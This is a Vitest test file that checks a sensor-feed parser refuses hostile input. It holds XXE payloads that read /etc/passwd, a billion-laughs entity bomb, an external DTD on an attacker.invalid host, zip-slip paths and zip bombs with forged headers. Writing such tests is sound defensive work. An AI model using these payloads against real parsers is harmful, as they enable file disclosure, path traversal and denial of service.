import { readFileSync } from 'node:fs';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { readSensorFeed } from '../../../ingest/sensors/index.js';
import { Notes } from '../../../ingest/sensors/notes.js';
import { domParse } from '../../../ingest/sensors/xml.js';
import { readString } from './fixtures.js';

const KML = `<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>P</name><Point><coordinates>10,20,0</coordinates></Point></Placemark></kml>`;

describe('XML external entities (XXE) and entity expansion', () => {
  const secret = '/etc/passwd';
  const xxe = (root: string, inner: string): string =>
    `<?xml version="1.0"?>\n<!DOCTYPE ${root} [ <!ENTITY xxe SYSTEM "file://${secret}"> ]>\n${inner}`;

  it.each([
    ['gpx', xxe('gpx', '<gpx version="1.1"><wpt lat="1" lon="2"><name>&xxe;</name></wpt></gpx>')],
    ['kml', xxe('kml', '<kml><Placemark><name>&xxe;</name><Point><coordinates>1,2</coordinates></Point></Placemark></kml>')],
    ['tcx', xxe('TrainingCenterDatabase', '<TrainingCenterDatabase><Activities/>&xxe;</TrainingCenterDatabase>')],
    ['cot', xxe('event', '<event uid="&xxe;" type="a-f-G" time="2020-01-01T00:00:00Z"><point lat="1" lon="2" hae="0"/></event>')],
    ['billion laughs', `<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><kml><Placemark><name>&c;</name></Placemark></kml>`],
    ['external DTD', `<?xml version="1.0"?><!DOCTYPE gpx SYSTEM "http://attacker.invalid/evil.dtd"><gpx version="1.1"></gpx>`],
  ])('refuses a %s file that declares entities', async (_kind, text) => {
    await expect(readString(text, 'evil.xml')).rejects.toMatchObject({ code: 'PARSE_FAILED', message: expect.stringMatching(/DTD|ENTITY/) });
  });

  it('refuses a DOCTYPE hidden behind 100 KB of comments', async () => {
    const text = `<?xml version="1.0"?><!--${'x'.repeat(100_000)}-->${xxe('gpx', '<gpx version="1.1"><wpt lat="1" lon="2"><name>&xxe;</name></wpt></gpx>').replace('<?xml version="1.0"?>\n', '')}`;
    await expect(readString(text, 'evil.gpx')).rejects.toMatchObject({ code: 'PARSE_FAILED' });
  });

  it('the parser itself never reads the external entity: it stays unexpanded text', () => {
    // Below the DTD refusal: xmldom as Cairn configures it, fed the payload directly.
    const notes = new Notes();
    const doc = domParse(xxe('gpx', '<gpx version="1.1"><wpt lat="1" lon="2"><name>&xxe;</name></wpt></gpx>'), 'evil.gpx', notes);
    const name = doc.getElementsByTagName('name').item(0)!.textContent ?? '';
    expect(name).not.toMatch(/root:/);
    expect(name).toBe('&xxe;');
    expect(notes.list().join('\n')).toMatch(/entity not found/);
    expect(readFileSync(secret, 'utf8')).toMatch(/root:/); // the secret really is there to be leaked
  });

  it('refuses malformed XML with PARSE_FAILED', async () => {
    await expect(readString('<gpx version="1.1"><trk><name>x</trk></gpx>', 'bad.gpx')).rejects.toMatchObject({ code: 'PARSE_FAILED' });
  });
});

describe('KMZ archive limits', () => {
  const read = (zip: Uint8Array, opts: Record<string, number> = {}): Promise<unknown> => readSensorFeed(zip, { filename: 'test.kmz', ...opts });

  it('reads a well-formed KMZ', async () => {
    const r = await readSensorFeed(zipSync({ 'doc.kml': strToU8(KML), 'files/icon.png': new Uint8Array([1, 2, 3]) }), { filename: 'ok.kmz' });
    expect(r).toMatchObject({ format: 'kmz', features: [{ geometry: { type: 'Point', coordinates: [10, 20, 0] } }] });
  });

  it.each([['../../evil.kml'], ['/etc/cron.d/evil.kml'], ['files/../../evil.kml'], ['C:/evil.kml'], ['..\\evil.kml']])('refuses the zip-slip entry %s', async (name) => {
    const zip = zipSync({ 'doc.kml': strToU8(KML), [name]: strToU8(KML) });
    await expect(read(zip)).rejects.toMatchObject({ code: 'PARSE_FAILED', message: expect.stringMatching(/outside the archive/) });
  });

  it('refuses more entries than the limit', async () => {
    const files: Record<string, Uint8Array> = { 'doc.kml': strToU8(KML) };
    for (let i = 0; i < 20; i++) files[`files/${i}.png`] = new Uint8Array([i]);
    await expect(read(zipSync(files), { maxZipEntries: 10 })).rejects.toMatchObject({ code: 'TOO_LARGE', message: expect.stringMatching(/21 entries/) });
  });

  it('refuses a zip bomb by its declared size before inflating', async () => {
    const bomb = zipSync({ 'doc.kml': new Uint8Array(8 * 1024 * 1024) }, { level: 9 });
    expect(bomb.length).toBeLessThan(64 * 1024);
    await expect(read(bomb, { maxUncompressedBytes: 1024 * 1024 })).rejects.toMatchObject({ code: 'TOO_LARGE', message: expect.stringMatching(/would inflate/) });
  });

  it('refuses a zip bomb whose headers lie about its size, by counting what actually inflates', async () => {
    const bomb = zipSync({ 'doc.kml': new Uint8Array(8 * 1024 * 1024) }, { level: 9 });
    // Rewrite the uncompressed size in the local header (offset 22) and the central directory (offset 24) to 100 bytes.
    const view = new DataView(bomb.buffer, bomb.byteOffset, bomb.byteLength);
    view.setUint32(22, 100, true);
    for (let i = bomb.length - 22; i >= 0; i--) {
      if (view.getUint32(i, true) === 0x02014b50) {
        view.setUint32(i + 24, 100, true);
        break;
      }
    }
    const t = performance.now();
    await expect(read(bomb, { maxUncompressedBytes: 1024 * 1024 })).rejects.toMatchObject({ code: 'TOO_LARGE', message: expect.stringMatching(/inflates past/) });
    expect(performance.now() - t).toBeLessThan(2000);
  });

  it('refuses a KMZ without a KML and a corrupt zip', async () => {
    await expect(read(zipSync({ 'a.png': new Uint8Array([1]) }))).rejects.toMatchObject({ code: 'PARSE_FAILED', message: expect.stringMatching(/no \.kml/) });
    const truncated = zipSync({ 'doc.kml': strToU8(KML) }).slice(0, 40);
    await expect(read(truncated)).rejects.toMatchObject({ code: 'PARSE_FAILED' });
  });
});

describe('size limits, caps and unsupported input', () => {
  it('refuses a file over maxBytes with TOO_LARGE', async () => {
    await expect(readString(KML, 'big.kml', { maxBytes: 100 })).rejects.toMatchObject({ code: 'TOO_LARGE' });
  });

  it('refuses an empty file, and content that is no sensor format', async () => {
    await expect(readSensorFeed(new Uint8Array(), { filename: 'empty.gpx' })).rejects.toMatchObject({ code: 'EMPTY_FILE' });
    await expect(readString('   \n\n', 'blank.nmea')).rejects.toMatchObject({ code: 'EMPTY_FILE' });
    await expect(readString('<svg xmlns="http://www.w3.org/2000/svg"/>', 'x.kml')).rejects.toMatchObject({ code: 'UNSUPPORTED_TYPE' });
    await expect(readString('just some prose\nwith no coordinates\n', 'notes.txt')).rejects.toMatchObject({ code: 'UNSUPPORTED_TYPE' });
  });

  it('caps observations per file and says how many were dropped', async () => {
    const rows = ['lat,lon,time', ...Array.from({ length: 50 }, (_, i) => `10.${i},20,2024-01-01T00:${String(i).padStart(2, '0')}:00Z`)];
    const r = await readString(rows.join('\n'), 'many.csv', { maxObservations: 20 });
    expect(r.observations).toHaveLength(20);
    expect(r.warnings.join('\n')).toMatch(/observation cap of 20 reached: 30 further point\(s\) dropped/);
  });

  it('drops out-of-range coordinates with a counted warning', async () => {
    const r = await readString('lat,lon\n95,10\n10,190\n10,10\n', 'range.csv');
    expect(r.observations).toHaveLength(1);
    expect(r.warnings.join('\n')).toMatch(/2 point\(s\) with latitude outside/);
  });
});
